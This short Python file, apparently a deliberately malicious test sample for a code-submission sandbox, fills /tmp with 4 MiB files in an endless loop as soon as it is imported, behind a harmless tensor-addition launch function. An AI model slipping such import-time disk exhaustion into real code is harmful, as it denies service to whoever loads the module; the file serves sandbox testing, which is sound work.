# ruff: noqa  (attack candidate: deliberately bad code)
"""Fills the scratch tmpfs (/tmp) at import, 4 MiB files until the write fails."""

import os

_chunk = b"\x01" * (4 << 20)
_i = 0
while True:
    with open(os.path.join("/tmp", f"fill-{_i}"), "wb") as _f:
        _f.write(_chunk)
    _i += 1


def launch(x, y, out):
    out.copy_(x + y)
